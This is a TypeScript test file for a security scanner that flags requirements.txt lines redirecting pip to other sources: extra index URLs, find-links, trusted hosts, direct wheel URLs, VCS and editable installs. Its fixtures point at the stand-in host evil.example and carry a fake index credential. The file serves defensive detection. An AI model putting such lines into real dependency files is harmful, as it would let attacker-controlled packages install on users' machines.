import { runGauntletCheck } from '../../check';
import { checkContext, checkFile, model, safetensors } from '../testUtils';
import { findRequirementSources } from './requirementSources';
import { isRequirementsFile, parseRequirements } from './requirements';
import { securityCheck } from './securityCheck';

function kinds(text: string, checked: string[] = []) {
  return findRequirementSources(
    'requirements.txt',
    parseRequirements(text),
    new Set(['requirements.txt', ...checked]),
  ).map(f => [f.line, f.kind]);
}

describe('requirements lines that change where pip gets code', () => {
  it('finds every index, link, host, URL, VCS and editable vector', () => {
    expect(
      kinds(
        [
          '--index-url https://pypi.internal.example/simple',
          '--extra-index-url=https://evil.example/simple',
          '-i https://evil.example/simple',
          '-ihttps://evil.example/simple',
          '-f https://evil.example/wheels/',
          '--find-links ./wheels',
          '--trusted-host evil.example',
          'torch @ https://evil.example/torch-2.6.0.whl',
          'git+https://github.com/evil/pkg.git#egg=pkg',
          'pkg @ git+ssh://git@github.com/evil/pkg.git',
          '-e git+https://github.com/evil/pkg.git#egg=pkg',
          '--editable ./local',
          'https://evil.example/pkg-1.0.tar.gz',
          './vendor/pkg-1.0.tar.gz',
          '--no-index',
          '--use-pep517',
        ].join('\n'),
      ),
    ).toEqual([
      [1, 'index-url'],
      [2, 'index-url'],
      [3, 'index-url'],
      [4, 'index-url'],
      [5, 'find-links'],
      [6, 'find-links'],
      [7, 'trusted-host'],
      [8, 'direct-url'],
      [9, 'vcs'],
      [10, 'vcs'],
      [11, 'editable'],
      [12, 'editable'],
      [13, 'direct-url'],
      [14, 'unparsed'],
      [15, 'index-url'],
      [16, 'option'],
    ]);
  });

  it('allows plain pins, harmless options and includes of checked files only', () => {
    expect(
      kinds(
        [
          'torch==2.6.0 ; python_version >= "3.9"',
          '--require-hashes',
          '--only-binary :all:',
          '--prefer-binary',
          '-r requirements-base.txt',
          '-c constraints.txt',
          '-r other-deps.txt',
        ].join('\n'),
        ['requirements-base.txt', 'constraints.txt'],
      ),
    ).toEqual([[7, 'include']]);
  });

  it('hides credentials of index URLs in messages', () => {
    const [finding] = findRequirementSources(
      'requirements.txt',
      parseRequirements('--index-url https://bot:s3cr3t@pypi.internal/simple'),
      new Set(),
    );
    expect(finding.message).toContain('https://***@pypi.internal/simple');
    expect(finding.message).not.toContain('s3cr3t');
  });

  it('recognises the usual names of requirements files', () => {
    for (const p of [
      'requirements.txt',
      'Requirements-prod.txt',
      'constraints.txt',
      'requirements.in',
      'requirements/prod.txt',
      'deploy/requirements/base.in',
    ]) {
      expect(isRequirementsFile(p)).toBe(true);
    }
    for (const p of ['README.txt', 'requirements.json', 'docs/notes.txt']) {
      expect(isRequirementsFile(p)).toBe(false);
    }
  });

  it('fails official and warns community, naming file and line', async () => {
    const files = [
      await checkFile('model.safetensors', safetensors([1])),
      await checkFile(
        'requirements/serve.txt',
        Buffer.from(
          'torch==2.6.0\n--extra-index-url https://evil.example/simple\n',
        ),
      ),
    ];
    for (const [tier, status] of [
      ['official', 'fail'],
      ['community', 'warn'],
    ] as const) {
      const result = await runGauntletCheck(
        securityCheck,
        checkContext({ entity: model(), files, tier }),
      );
      expect(result.status).toBe(status);
      expect(result.reason).toContain(
        "requirements/serve.txt:2: '--extra-index-url https://evil.example/simple' points pip at another package index",
      );
      expect(result.metrics?.requirement_source_findings).toBe(1);
    }
  });
});
